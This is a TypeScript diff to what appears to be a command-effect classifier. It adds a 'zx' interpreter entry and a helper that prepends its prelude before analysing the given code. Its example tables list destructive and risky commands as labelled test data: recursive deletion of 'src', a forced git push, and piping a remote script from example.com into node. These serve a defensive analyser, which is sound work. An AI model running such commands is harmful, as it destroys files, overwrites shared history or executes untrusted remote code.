@@ -35,6 +35,8 @@ interface Interpreter {
     operands: readonly Arg[],
     options: ReadonlyMap<string, readonly Arg[]>,
   ) => Reading | null;
+  /** What the program has ready for the code it is given. */
+  readonly prelude?: string;
   readonly examples: Program['examples'];
 }
 
@@ -84,6 +86,19 @@ const INTERPRETERS: readonly Interpreter[] = [
       { command: `node -e "require('fs').rmSync('src',{recursive:true})"`, effects: ['fs.delete'] },
       { command: `node -e 'require("child_process").execSync("git push --force")'`, effects: ['git.push'] },
       { command: 'curl -s https://example.com/x.js | node', effects: ['run.remote-code'] },
+    ],
+  },
+  {
+    names: ['zx'],
+    manual: 'zx(1) 8.8',
+    language: 'javascript',
+    code: words('-e --eval'),
+    values: words('--shell --prefix --postfix --cwd --ext --registry --env'),
+    looks: words('-v --version -h --help'),
+    prelude: "import {$} from 'zx';",
+    examples: [
+      { command: "zx -e 'await $`rm -rf src`'", effects: ['fs.delete'] },
+      { command: "zx -e 'console.log(1)'", effects: [] },
     ],
   },
   {
@@ -271,6 +286,11 @@ function isModule(one: Interpreter, option: Arg): boolean {
   return one.module !== undefined && known(option) === one.module;
 }
 
+/** zx has its functions ready; code that is not known stays as it is. */
+function withPrelude(one: Interpreter, arg: Arg): Arg {
+  return one.prelude === undefined || arg.kind !== 'literal' ? arg : { ...arg, value: `${one.prelude}${arg.value}` };
+}
+
 function runGiven(
   one: Interpreter,
   call: Call,
@@ -279,7 +299,7 @@ function runGiven(
   options: ReadonlyMap<string, readonly Arg[]>,
 ): Reading {
   const via = `${call.name} ${one.code[0] ?? ''}`;
-  const readings = code.map((arg) => runText(call, one.language, arg, via));
+  const readings = code.map((arg) => runText(call, one.language, withPrelude(one, arg), via));
   const effects = readings.flatMap((reading) => reading.effects);
   // perl -n and -p read their operands; with -i they write them back.
   const reads = one.inPlace !== undefined && (options.has('-n') || options.has('-p') || options.has(one.inPlace));
